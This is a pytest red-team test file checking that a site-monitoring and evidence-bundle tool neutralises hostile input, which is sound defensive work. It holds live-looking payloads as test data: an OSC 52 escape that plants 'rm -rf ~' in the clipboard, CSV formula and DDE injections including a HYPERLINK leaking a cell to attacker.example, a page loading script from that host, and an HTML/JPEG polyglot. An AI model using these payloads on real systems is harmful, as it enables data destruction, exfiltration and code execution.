"""Red team: what a hostile site or list puts in jikimi's output, files and bundles.

The attacker runs the site jikimi watches (or hands over a hash list): page titles, URLs and labels carry
rich markup, terminal escape sequences, bidi overrides and spreadsheet formulas; the page itself calls home
when opened; a picture is also a web page. Nothing of it may run when an investigator reads jikimi's
output or opens a bundle, and the packets must still verify.
"""

from __future__ import annotations

import asyncio
import dataclasses
import io
import json
import re
import threading
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from rich.console import Console

from config.settings import Settings
from crawlers.sighting import BlocklistHit, Distributor, Media, Sighting
from evidence import packet as packet_module
from evidence.bundle import export_bundle
from evidence.errors import VerificationFailed
from evidence.packet import media_file_name, packet_files, write_packet
from evidence.signing import public_key_pem, signing_key_from
from evidence.verify import verify_bundle
from monitor.cards import card_of
from monitor.cli.console import card_json, cards_table, print_runs
from monitor.context import open_context
from monitor.counters import RunCounters
from monitor.errors import BlocklistError
from monitor.fingerprint.media import fingerprint_file
from monitor.fingerprint.pool import HashPool
from monitor.matching.hash_lists import read_blocklist
from monitor.packets.bundle_documents import ExportedPacket, takedown_csv
from monitor.records import HitRecord, PacketRecord, RunRecord, RunStatus
from tests.doubles.custody_chains import exported_chain
from tests.redteam.bundle_forgery import payload, rebag

KEY = bytes(range(32))
SIGNER = signing_key_from(bytes(range(100, 132)))
ESCAPE = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J"  # OSC 52 writes the clipboard, CSI 2J clears the screen
CALLS_HOME = b"<html><script src='http://attacker.example/x.js'></script><img src='http://attacker.example/p'></html>"


def hostile_hit(**overrides: str) -> HitRecord:
    values = {
        "sighting_id": "s1", "entry_id": "e1", "hash_type": "pdq", "case": "case-1", "label": "picture 1",
        "distance": 3, "matched_value": "00" * 32, "source_id": "forum", "location": "http://forum/[/]thread",
        "media_url": "http://forum/[bold red]x[/].jpg", "media_sha256": "ab" * 32, "posted_at": None,
        "seen_at": datetime.fromisoformat("2026-11-01T12:00:00+00:00"),
    }  # fmt: skip
    return HitRecord(**{**values, **overrides})  # type: ignore[arg-type]


def printed(renderable: object) -> str:
    stream = io.StringIO()
    Console(file=stream, width=300, color_system=None).print(renderable)
    return stream.getvalue()


def test_cards_with_markup_in_a_location_print_as_written() -> None:
    out = printed(cards_table([card_of([hostile_hit()])]))
    assert "http://forum/[/]thread" in out and "[bold red]x[/]" in out


def test_escape_sequences_and_bidi_overrides_in_a_label_are_shown_not_obeyed() -> None:
    out = printed(cards_table([card_of([hostile_hit(label=f"pic{ESCAPE}\u202egpj.exe")])]))
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b]52" in out and "\\u202e" in out


def test_cards_as_json_carry_the_label_exactly_but_nothing_a_terminal_obeys() -> None:
    label = f"pic{ESCAPE}\u202e\x9b31m\x7f"
    line = card_json(card_of([hostile_hit(label=label)]))
    assert not [c for c in line if not c.isprintable()] and "\u202e" not in line
    assert json.loads(line)["label"] == label


def test_run_problems_from_a_hostile_page_are_shown_not_obeyed() -> None:
    run = RunRecord("r1", "forum", datetime.fromisoformat("2026-11-01T12:00:00+00:00"), status=RunStatus.FAILED,
                    error=f"page title {ESCAPE}")  # fmt: skip
    stream = io.StringIO()
    print_runs(Console(file=stream, width=300, color_system=None), [run])
    assert "\x1b" not in stream.getvalue() and "\\x1b" in stream.getvalue()


@pytest.mark.parametrize("label", [f"pic{ESCAPE}", "pic\u202eexe.jpg", "line\nbreak", "nul\x00"])
def test_a_hash_list_with_control_characters_in_a_label_is_refused_naming_them(tmp_path: Path, label: str) -> None:
    path = tmp_path / "list.jsonl"
    path.write_text(json.dumps({"hash_type": "sha256", "hash": "ab" * 32, "case": "c1", "label": label}) + "\n")
    with pytest.raises(BlocklistError, match="line 1: label contains control characters"):
        read_blocklist(path)


@pytest.mark.parametrize(("case", "named"), [("c\x1b[31m1", "U+001B"), ("../../x", "U+002F"), ("c\u202e1", "U+202E")])
def test_a_hash_list_with_a_case_code_that_is_not_one_is_refused_naming_the_character(
    tmp_path: Path, case: str, named: str
) -> None:
    path = tmp_path / "list.csv"
    path.write_text(f"hash_type,hash,case,label\nsha256,{'ab' * 32},{case},pic\n")
    with pytest.raises(BlocklistError, match=f"line 2: case code .* refused: it holds .* \\({re.escape(named)}\\)"):
        read_blocklist(path)


def test_takedown_csv_cells_never_start_a_formula(make_sighting: Callable[..., Sighting]) -> None:
    sighting = make_sighting(
        location='=HYPERLINK("http://attacker.example/?"&A1,"open")',
        media=Media("+cmd|' /C calc'!A0", None),
        distributor=Distributor(channel_id="-1001234567890", channel_username="@evil", message_id=7),
    )
    row = ExportedPacket(PacketRecord("p1", "s1", "evidence/p1", "00" * 32), sighting, [], "awaiting")
    import csv

    cells = list(csv.reader(io.StringIO(takedown_csv([row]).decode())))[1]
    assert cells[1].startswith("'=HYPERLINK(") and cells[2].startswith("'+cmd") and cells[4] == "'@evil"
    assert cells[3] == "-1001234567890"  # a channel id is a number, not a formula: kept as it is
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


# --- the page and the media in a bundle are inert ---------------------------------------------------------


@pytest.fixture
def hostile_sighting(make_sighting: Callable[..., Sighting], tmp_path: Path) -> Sighting:
    sighting = make_sighting()
    assert sighting.capture is not None and sighting.capture.raw_path is not None and sighting.media.path
    sighting.capture.raw_path.write_bytes(CALLS_HOME)
    polyglot = tmp_path / "polyglot"
    polyglot.write_bytes(sighting.media.path.read_bytes() + b"<html><script>alert(1)</script></html>")
    media = Media("http://forum/picture.html", polyglot, "text/html", polyglot.stat().st_size)
    return dataclasses.replace(
        sighting, media=media, fingerprints=fingerprint_file(polyglot),
        hits=(BlocklistHit("entry-1", "pdq", "case-9", "picture 1", 4, "00" * 32),),
    )  # fmt: skip


def custody(packet_id: str, manifest_sha256: str) -> dict[str, bytes]:
    return exported_chain(packet_id, manifest_sha256, SIGNER)


def exported_names(bundle: Path) -> list[str]:
    with zipfile.ZipFile(bundle) as archive:
        return archive.namelist()


RUNS_IN_A_BROWSER = (".html", ".htm", ".svg", ".xhtml", ".xml")


def test_a_polyglot_served_as_html_is_stored_under_the_extension_its_bytes_have(hostile_sighting: Sighting) -> None:
    assert media_file_name(hostile_sighting).endswith(".jpg")  # JPEG magic bytes, whatever the server said
    html_only = dataclasses.replace(hostile_sighting.media, path=hostile_sighting.capture.raw_path)  # type: ignore[union-attr]
    assert media_file_name(dataclasses.replace(hostile_sighting, media=html_only)).endswith(".bin")


def test_a_bundle_holds_the_received_page_and_media_under_names_no_browser_runs(
    hostile_sighting: Sighting, tmp_path: Path
) -> None:
    written = write_packet(hostile_sighting, tmp_path / "evidence", KEY, signer=SIGNER)
    bundle = tmp_path / "bundle.zip"
    export_bundle([written.path], bundle, KEY, public_key=public_key_pem(SIGNER),
                  extra=custody(written.id, written.manifest_sha256))  # fmt: skip
    names = exported_names(bundle)
    assert not [name for name in names if name.lower().endswith(RUNS_IN_A_BROWSER)]
    page = next(name for name in names if name.endswith("/page.html.txt"))
    with zipfile.ZipFile(bundle) as archive:
        assert archive.read(page) == CALLS_HOME  # the exact bytes received, for the court
    assert verify_bundle(bundle).packets == (written.id,)


def test_a_packet_written_before_the_rule_exports_its_page_and_html_media_inert_and_verifies(
    hostile_sighting: Sighting, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sha = hostile_sighting.fingerprints.sha256  # type: ignore[union-attr]
    monkeypatch.setattr(packet_module, "RECEIVED_PAGE_NAME", "page.html")  # as packets were written until now
    monkeypatch.setattr(packet_module, "media_file_name", lambda sighting, files: f"media/{sha}.html")
    written = write_packet(hostile_sighting, tmp_path / "evidence", KEY, signer=SIGNER)
    assert {"page.html", f"media/{sha}.html"} <= {name for name, _ in packet_files(written.path)}
    bundle = tmp_path / "bundle.zip"
    export_bundle([written.path], bundle, KEY, public_key=public_key_pem(SIGNER),
                  extra=custody(written.id, written.manifest_sha256))  # fmt: skip
    names = exported_names(bundle)
    assert not [name for name in names if name.lower().endswith(RUNS_IN_A_BROWSER)]
    assert f"data/packets/{written.id}/page.html.txt" in names
    assert f"data/packets/{written.id}/media/{sha}.html.txt" in names
    assert verify_bundle(bundle).packets == (written.id,)

    live_copy = payload(bundle) | {f"packets/{written.id}/page.html": CALLS_HOME}  # rebagged: the bag agrees
    with pytest.raises(VerificationFailed, match="a browser would run, which a bundle holds only as page.html.txt"):
        verify_bundle(rebag(live_copy, tmp_path / "live-copy.zip"))


# --- packets: atomic creation, no half-built folder ---------------------------------------------------------


def test_of_two_writers_racing_for_one_packet_exactly_one_reports_it_created(
    hostile_sighting: Sighting, tmp_path: Path
) -> None:
    results, start = [], threading.Barrier(4)

    def write() -> None:
        start.wait()
        results.append(write_packet(hostile_sighting, tmp_path / "evidence", KEY, signer=SIGNER))

    threads = [threading.Thread(target=write) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(result.created for result in results) == [False, False, False, True]
    assert len({result.manifest_sha256 for result in results}) == 1
    assert [p.name for p in (tmp_path / "evidence").iterdir()] == [results[0].id]


async def test_two_crawls_preserving_one_sighting_at_once_record_one_capture(
    hostile_sighting: Sighting, settings: Settings, hash_pool: HashPool, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with open_context(settings, hash_pool) as context:
        from monitor.records import BlocklistEntry

        sha = hostile_sighting.fingerprints.sha256  # type: ignore[union-attr]
        await context.store.add_blocklist_entries([BlocklistEntry("sha256", sha, "case-9", "picture 1")])
        first, second = await context.pipeline(), await context.pipeline()
        look = context.store.last_custody_event

        async def look_slowly(chain: str) -> object:  # both crawls look before either has recorded its capture
            found = await look(chain)
            await asyncio.sleep(0.3)
            return found

        monkeypatch.setattr(context.store, "last_custody_event", look_slowly)
        plain = dataclasses.replace(hostile_sighting, fingerprints=None, hits=())
        await asyncio.gather(first.process(plain, RunCounters()), second.process(plain, RunCounters()))
        (packet,) = await context.store.packets()
        assert [event.kind for event in await context.store.custody_events(packet.id)] == ["captured"]


def test_a_naive_time_is_refused_by_name_and_leaves_no_half_built_packet(
    hostile_sighting: Sighting, tmp_path: Path
) -> None:
    naive = dataclasses.replace(hostile_sighting.distributor, posted_at=datetime(2026, 10, 31, 22, 15))
    with pytest.raises(ValueError, match="posted_at 2026-10-31T22:15:00 has no time zone"):
        write_packet(dataclasses.replace(hostile_sighting, distributor=naive), tmp_path / "evidence", KEY)
    assert list((tmp_path / "evidence").glob("*")) == []


def test_a_failure_while_writing_a_packet_leaves_no_half_built_folder(
    hostile_sighting: Sighting, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(packet_module, "canonical_json", broken)
    with pytest.raises(OSError, match="disk full"):
        write_packet(hostile_sighting, tmp_path / "evidence", KEY)
    assert list((tmp_path / "evidence").glob("*")) == []
